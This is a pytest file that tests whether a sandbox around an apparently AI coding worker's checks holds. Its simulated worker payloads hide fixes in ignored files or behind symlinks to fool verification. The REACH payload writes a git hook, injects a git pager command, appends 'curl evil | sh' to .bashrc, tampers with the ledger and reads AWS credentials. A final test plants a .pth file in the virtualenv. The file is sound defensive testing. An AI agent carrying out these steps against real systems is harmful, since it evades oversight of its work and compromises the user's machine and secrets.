"""The checks run the worker's code: they run in the sandbox, with the clean room bound at
the repository's own path. Whatever names the work tree's path (an editable install's
``.pth``, an absolute symlink) sees exactly the verified tree there, and nothing that
judges the work (the real ``.git``, the state folder, the person's home) is in reach of a
check. Each worker below tries one of these through recipes/loop.sh; the same loop with
the checks outside the sandbox lets it through."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from loopkit.boundary import sandbox
from tests.adversarial.helpers import loop, nothing_unverified_landed
from tests.helpers.recipes import fail_message, make_project

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(not sandbox.probe().available, reason="no sandbox can start here"),
]

PY = sys.executable

# The fix lives in an ignored file; the tracked module imports it. Only a check that sees
# the real work tree (where the ignored file is) passes.
FIX_IN_IGNORED = """
Path("src/_impl.py").write_text("def f():\\n    return 1\\n")
Path("src/calc.py").write_text("from _impl import f\\n")
"""

IMPORT_CHECK = {
    "name": "calc",
    "run": ".venv/bin/python -c 'from calc import f; assert f() == 1'",
    "timeout": 60,
}


def _editable_venv(root: Path) -> None:
    """What ``pip install -e .`` leaves: a virtualenv whose site-packages holds a .pth
    naming the work tree's ``src/`` by its absolute path."""
    subprocess.run(
        [PY, "-m", "venv", "--without-pip", str(root / ".venv")], check=True, capture_output=True
    )
    site = subprocess.run(
        [str(root / ".venv/bin/python"), "-c", "import site; print(site.getsitepackages()[0])"],
        check=True,
        capture_output=True,
        text=True,
    ).stdout.strip()
    (Path(site) / "__editable__.project.pth").write_text(str(root / "src") + "\n")


def test_an_editable_install_sees_the_verified_tree_not_the_work_tree(tmp_path: Path) -> None:
    p = make_project(
        tmp_path,
        FIX_IN_IGNORED,
        files={"src/calc.py": "def f():\n    return 0\n"},
        gitignore=".venv/\n_impl.py\n__pycache__/\n",
        checks=[IMPORT_CHECK],
        writable=["src/**"],
        budgets={"attempts": 2},
        verify={"carry": [".venv"]},
    )
    _editable_venv(p.root)
    before = p.head()
    proc = loop(p)
    assert (p.root / "src/_impl.py").exists()  # the attack ran
    assert proc.returncode != 0, fail_message(proc)
    assert nothing_unverified_landed(p, before, tmp_path)
    verify = p.docs("fix-value", "verify")[0]["verify"]
    assert verify["sandbox"]["used"] is True
    assert {"path": ".venv", "why": verify["carried"][0]["why"]} in verify["carried"]


# A tracked symlink, by absolute path, to an ignored file holding the fix.
SYMLINK_TO_IGNORED = """
import os
Path("build").mkdir(exist_ok=True)
Path("build/value.txt").write_text("good\\n")
os.remove("src/value.txt")
os.symlink(os.path.abspath("build/value.txt"), "src/value.txt")
"""


def test_a_symlink_into_the_work_trees_ignored_files_sees_nothing(tmp_path: Path) -> None:
    p = make_project(
        tmp_path,
        SYMLINK_TO_IGNORED,
        files={"src/value.txt": "bad\n"},
        gitignore="build/\n",
        writable=["src/**"],
        budgets={"attempts": 2},
    )
    before = p.head()
    proc = loop(p)
    saved = p.git("ls-tree", p.loopkit_refs()[0], "src/value.txt")
    assert saved.startswith("120000"), saved  # the attack ran: a symlink was tried
    assert proc.returncode != 0, fail_message(proc)
    assert nothing_unverified_landed(p, before, tmp_path)


# The worker's module, imported by the check: it fixes the value and, when the check
# imports it, reaches for everything that judges the work or belongs to the person.
REACH = """
Path("src/calc.py").write_text('''
import os, pathlib
def f():
    return 1
root = pathlib.Path(__file__).resolve().parent.parent
home = pathlib.Path(os.environ.get("HOME", "/nonexistent"))
def attempt(what, action):
    try:
        action()
        print("REACHED", what)
    except Exception as exc:
        print("REFUSED", what, type(exc).__name__)
attempt("hook", lambda: (root / ".git/hooks/post-commit").write_text("#!/bin/sh\\\\ntouch /tmp/owned\\\\n"))
attempt("git-config", lambda: open(root / ".git/config", "a").write("[core]\\\\n\\\\tpager = touch owned\\\\n"))
attempt("ledger", lambda: open(root / ".loopkit/ledger.jsonl", "a").write("{}\\\\n"))
attempt("cancel", lambda: (root / ".loopkit/cancel.json").unlink())
attempt("bashrc", lambda: open(home / ".bashrc", "a").write("curl evil | sh\\\\n"))
attempt("rooms", lambda: (pathlib.Path("__ROOMS__") / "pytest.ini").write_text("x"))
for name in (".aws/credentials", "notes.txt"):
    try:
        print("SECRET", (home / name).read_text())
    except Exception:
        print("HIDDEN", name)
''')
"""

CALC_CHECK = {
    "name": "calc",
    "run": f"{PY} -c 'import sys; sys.path.insert(0, \"src\"); import calc; assert calc.f() == 1'",
    "timeout": 60,
}


def test_a_check_reaches_nothing_that_judges_it_nor_the_persons_home(
    tmp_path: Path, home: Path
) -> None:
    (home / ".aws").mkdir(parents=True)
    (home / ".aws/credentials").write_text("aws_secret_access_key = MARKER-AWS-4242\n")
    (home / "notes.txt").write_text("MARKER-NOTES-4242\n")
    (home / ".bashrc").write_text("# mine\n")
    # The folder above every clean room, away from /tmp and the home (each private in
    # the sandbox anyway): a pytest.ini there would reach every later check.
    import shutil
    import tempfile

    rooms = Path(tempfile.mkdtemp(prefix="loopkit-rooms-", dir="/var/tmp"))
    p = make_project(
        tmp_path,
        REACH.replace("__ROOMS__", str(rooms)),
        files={"src/calc.py": "def f():\n    return 0\n"},
        gitignore="__pycache__/\n",
        checks=[CALC_CHECK],
        writable=["src/**"],
    )
    config_before = (p.root / ".git/config").read_text()
    proc = p.run(
        "loop.sh",
        "--contract",
        "loop.yaml",
        "--task-id",
        "fix-value",
        "--task",
        "Fix",
        env={"HOME": str(home), "LOOPKIT_CLEANROOM": str(rooms)},
    )
    planted = (rooms / "pytest.ini").exists()
    shutil.rmtree(rooms, ignore_errors=True)
    assert proc.returncode == 0, fail_message(proc)  # the fix itself is honest
    log = next((p.state() / "artifacts").rglob("verify-01-calc.log")).read_text()
    assert "REFUSED hook" in log and "REFUSED git-config" in log, log
    assert "REFUSED rooms" in log and not planted, log
    assert not (p.root / ".git/hooks/post-commit").exists()
    assert (p.root / ".git/config").read_text() == config_before
    assert (home / ".bashrc").read_text() == "# mine\n"
    assert "MARKER" not in log and "HIDDEN .aws/credentials" in log, log
    everything = "".join(f.read_text(errors="replace") for f in p.state().rglob("*") if f.is_file())
    assert "MARKER-AWS" not in everything and "MARKER-NOTES" not in everything
    assert all(json.dumps(r) != "{}" for r in p.ledger())


NODE_FIX = """
Path("index.js").write_text("const pad = require('leftpad');\\nmodule.exports = () => pad('1', 3);\\n")
"""


@pytest.mark.skipif(
    not any(
        os.access(os.path.join(d, "node"), os.X_OK) for d in os.environ.get("PATH", "").split(":")
    ),
    reason="node is not installed",
)
def test_an_honest_fix_on_a_node_project_with_node_modules_lands_first_time(
    tmp_path: Path,
) -> None:
    p = make_project(
        tmp_path,
        NODE_FIX,
        files={
            "package.json": '{"name": "p", "version": "1.0.0", "scripts": {"test": "node test.js"}}\n',
            "index.js": "const pad = require('leftpad');\nmodule.exports = () => pad('1', 2);\n",
            "test.js": "const assert = require('assert');\nassert.strictEqual(require('./index')(), '001');\n",
        },
        gitignore="node_modules/\n",
        checks=[{"name": "test", "run": "node test.js", "timeout": 60}],
        writable=["index.js"],
    )
    mod = p.root / "node_modules" / "leftpad"
    mod.mkdir(parents=True)
    (mod / "index.js").write_text("module.exports = (s, n) => s.padStart(n, '0');\n")
    proc = loop(p)
    assert proc.returncode == 0, fail_message(proc)
    assert p.worker_calls() == 1
    verify = p.docs("fix-value", "verify")[0]["verify"]
    assert verify["passed"] and [c["path"] for c in verify["carried"]] == ["node_modules"]


DATA_FIX = """
Path("src/value.txt").write_text("good\\n")
"""


def test_a_project_whose_tests_need_a_reset_data_folder_lands_first_time(tmp_path: Path) -> None:
    p = make_project(
        tmp_path,
        DATA_FIX,
        files={"src/value.txt": "bad\n"},
        gitignore="data/\n",
        checks=[
            {"name": "data", "run": 'test -d data && test -z "$(ls -A data)"', "timeout": 30},
            {"name": "value", "run": "grep -qx good src/value.txt", "timeout": 30},
        ],
        writable=["src/**"],
    )
    (p.root / "data").mkdir()
    (p.root / "data" / "store.db").write_text("rows\n")
    proc = loop(p, "--reset-path", "data/")
    assert proc.returncode == 0, fail_message(proc)
    assert p.worker_calls() == 1


def test_a_worker_cannot_plant_code_in_the_ignored_virtualenv(tmp_path: Path) -> None:
    """Code in the repository's ignored .venv is in no diff and would survive a park: in
    its sandbox the worker finds it read-only."""
    plant = """
site = next(Path(".venv/lib").glob("python*/site-packages"))
try:
    (site / "planted.pth").write_text("import os\\n")
    print("planted")
except OSError as exc:
    print("refused", exc)
Path("src/calc.py").write_text("def f():\\n    return 1\\n")
"""
    p = make_project(
        tmp_path,
        plant,
        files={"src/calc.py": "def f():\n    return 0\n"},
        gitignore=".venv/\n__pycache__/\n",
        checks=[IMPORT_CHECK],
        writable=["src/**"],
    )
    _editable_venv(p.root)
    proc = loop(p)
    assert proc.returncode == 0, fail_message(proc)
    assert not list((p.root / ".venv/lib").glob("python*/site-packages/planted.pth"))
